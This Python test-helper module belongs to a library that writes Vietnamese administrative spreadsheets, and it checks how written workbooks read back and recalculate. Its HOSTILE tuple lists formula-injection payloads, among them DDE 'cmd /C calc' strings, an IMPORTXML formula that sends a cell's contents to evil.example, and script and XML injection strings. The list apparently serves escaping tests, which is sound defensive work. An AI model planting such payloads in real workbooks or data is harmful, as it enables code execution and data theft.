"""Workbooks of tests: a small declared one, its reading back, and its recalculation held against it."""

from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from io import BytesIO
from math import isclose
from pathlib import Path

from openpyxl import load_workbook
from openpyxl.workbook import Workbook as Book
from python_calamine import CalamineWorkbook

from promotion import sheets
from promotion.sheets import blocks
from promotion.sheets.cells import (
    Amount,
    Cell,
    Count,
    Day,
    Difference,
    Kind,
    Link,
    Lookup,
    Mark,
    Ratio,
    Ref,
    Same,
    Sum,
    Tally,
    Text,
    Verdict,
)
from promotion.sheets.declaration import Column, Footer, Row, RowLevel, Sheet, Table, Workbook

MADE = datetime(2024, 10, 5, 7, 5, tzinfo=UTC)
ERRORS = {"#DIV/0!", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#REF!", "#VALUE!"}

HOSTILE = (
    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example","Bấm vào đây")', "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"a")', "==1", "=-1", "='Dữ liệu'!A1", "{=SUM(A1)}", "{=1+1}", "=@A1",
    "+1", "+1+1", "+cmd|' /C calc'!A0", "++1", "+84 912 345 678",
    "-1", "-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "- gạch đầu dòng",
    "@SUM(1+1)", "@A1", "@@", "@nguyen.van.an",
    "\t=1+1", "\r=1+1", "\n=1+1", "\t+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u3000=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", "'=1+1", "''", '"=1+1"', "`=1`", "%0A=1+1", ";=1+1", ",=1+1",
    "|calc", "<r><t>x</t></r>", "<r></r>", "</t></si><si><t>x", "<![CDATA[=1]]>", "<script>alert(1)</script>", "&lt;=1",
    "_x003D_1+1", "_x0041_", "_x005F_", "_x0009_=1", "a\x00b\x01c\x1f", "\x07=1+1", "\x0b=1+1", "\x85=1+1",
    "http://evil.example/", "mailto:a@evil.example", "internal:'Bìa'!A1", "file://server/share/x.exe", "ftp://evil",
    "1E5", "0123", "12/3", "TRUE", "#REF!", "1,5", "1.234.567", "2024-91", "NaN", "inf",
    "\u202eexe.fdp", "\u2066=1\u2069", "\ud800=1", "e\u0301\u0323", "Đắk Lắk", "👩‍🌾 nông dân", "x" * 40_000,
)  # fmt: skip


def small(*extra: Row) -> Workbook:
    """Give a workbook with every sort of cell: data, a form over it, and a cover that links to both."""
    return Workbook(
        "Nhỏ", "Cục", MADE, Footer("A & B", "Trang %(page)s/%(pages)s"), (_cover(), _form(*extra), _data())
    )


DATA_COLUMNS = (
    Column("key", "Khóa", 30),
    Column("approved", "Duyệt", 25, Kind.dong),
    Column("paid", "Chi", 25, Kind.dong),
)
FORM_COLUMNS = (
    Column("no", "STT", 10, Kind.centred),
    Column("name", "Tỉnh", 40),
    Column("day", "Ngày", 22, Kind.day),
    Column("approved", "Kế hoạch được duyệt", 20, Kind.dong, "Kinh phí"),
    Column("paid", "Giải ngân", 20, Kind.dong, "Kinh phí"),
    Column("rate", "Tỷ lệ", 16, Kind.share, share_of=("paid", "approved")),
    Column("verdict", "Đối chiếu", 20, Kind.centred),
    Column("aside", "Lọc", 20, printed=False),
)


def _cover() -> Sheet:
    columns = (Column("a", "", 100), Column("b", "", 120))
    words = blocks.Letterhead(
        "BỘ CÔNG THƯƠNG", "CỤC", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc"
    )
    tally = Tally((Ref("kg", "verdict", "form"), Ref("bd", "verdict", "form")), "Đạt", "/2")
    lines = (
        *blocks.letterhead(columns, words),
        *blocks.title(columns, "TỔNG HỢP"),
        blocks.paragraph(columns, Link("Đến biểu", "form")),
        blocks.paragraph(columns, tally),
    )
    return Sheet("cover", "Bìa", columns, lines)


def _form(*extra: Row) -> Sheet:
    def row(key: str, name: str, number: str) -> Row:
        cells: dict[str, Cell] = {
            "no": Text(number),
            "name": Text(name),
            "day": Day(date(2024, 9, 30)),
            "approved": Lookup("data", f"national/{key}", "approved"),
            "paid": Lookup("data", f"national/{key}", "paid"),
            "verdict": Verdict(Ref(key, "paid"), Ref(key, "approved"), "Đạt", 'S"ai', "<="),
        }
        return Row(key, cells)

    keys = ("kg", "bd", "la")
    rows = (
        Row("south", {"name": Text("Miền Nam"), **_sums(keys)}, RowLevel.section),
        row("kg", "Kiên Giang", "1"),
        row("bd", "Bình Dương", "2"),
        row("la", "Long An", "3"),
        Row("rest", {"name": Text("Khác"), "approved": Amount(0), "paid": Amount(-5)}, RowLevel.rest),
        *extra,
        Row("total", {"name": Text("TỔNG CỘNG"), **_sums(("south", "rest"))}, RowLevel.total),
        Row("more", {"approved": Difference(*_pair("total")), "paid": Mark()}, rates=False),
        Row("same", {"approved": Same(Ref("total", "approved")), "paid": Count(3),
                     "day": Ratio(Ref("kg", "paid"), Ref("total", "approved"))}),
    )  # fmt: skip
    lines = blocks.form_head(FORM_COLUMNS, "CỤC", "Biểu số 01/KC")
    signs = blocks.signatures(
        FORM_COLUMNS, "Hà Nội, ngày … tháng … năm 2024",
        (blocks.Signature("NGƯỜI LẬP BIỂU", "(Ký)"), blocks.Signature("THỦ TRƯỞNG", "(Ký)", "Trần Thị B")),
    )  # fmt: skip
    return Sheet("form", "01 It's", FORM_COLUMNS, (*lines, Table(rows, filtered=True), *signs), frozen="name")


def _pair(row: str) -> tuple[Ref, Ref]:
    return Ref(row, "approved"), Ref(row, "paid")


def _sums(keys: tuple[str, ...]) -> dict[str, Cell]:
    return {column: Sum(tuple(Ref(key, column) for key in keys)) for column in ("approved", "paid")}


def _data() -> Sheet:
    figures = {"national/kg": (9 * 10**15, 3_456_789_012_345), "national/bd": (0, 0), "other": (1, 2)}
    rows = tuple(
        Row(key, {"key": Text(key), "approved": Amount(approved), "paid": Amount(paid)})
        for key, (approved, paid) in figures.items()
    )
    return Sheet("data", "Dữ liệu", DATA_COLUMNS, (Table(rows, numbered=False, key_column="key"),))


def written(workbook: Workbook) -> bytes:
    target = BytesIO()
    sheets.write(workbook, target)
    return target.getvalue()


def opened(file: Path | bytes, *, values: bool = False) -> Book:
    """Read a workbook with its formulas, or with the values stored beside them."""
    return load_workbook(BytesIO(file) if isinstance(file, bytes) else file, data_only=values)


def words(file: Path | bytes, tab: str) -> list[str]:
    """Read the first column below the head through a second library, which unescapes every text rightly."""
    source = BytesIO(file if isinstance(file, bytes) else file.read_bytes())
    return [
        str(row[0]) for row in CalamineWorkbook.from_filelike(source).get_sheet_by_name(tab).to_python()[1:]
    ]


def formulas(book: Book) -> Iterator[tuple[str, str, str]]:
    """Give tab, address and formula of every formula cell."""
    for page in book:
        for row in page.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield page.title, cell.coordinate, str(cell.value)


def differences(
    file: Path, convert: Callable[[Path, str, Path], Path], folder: Path
) -> tuple[int, list[str]]:
    """Recalculate a workbook; give how many formulas it has, and where a stored value is not what comes out."""
    stored, again = opened(file, values=True), opened(convert(file, "xlsx", folder), values=True)
    found = list(formulas(opened(file)))
    wrong = []
    for tab, address, formula in found:
        before, after = stored[tab][address].value, again[tab][address].value
        if after in ERRORS or not _agree(before, after):
            wrong.append(f"{tab}!{address} {formula}: stored {before!r}, comes out as {after!r}")
    return len(found), wrong


def _agree(stored: object, computed: object) -> bool:
    if isinstance(stored, float) and isinstance(computed, float | int):
        return isclose(stored, computed, rel_tol=1e-14)
    return stored is not None and stored == computed
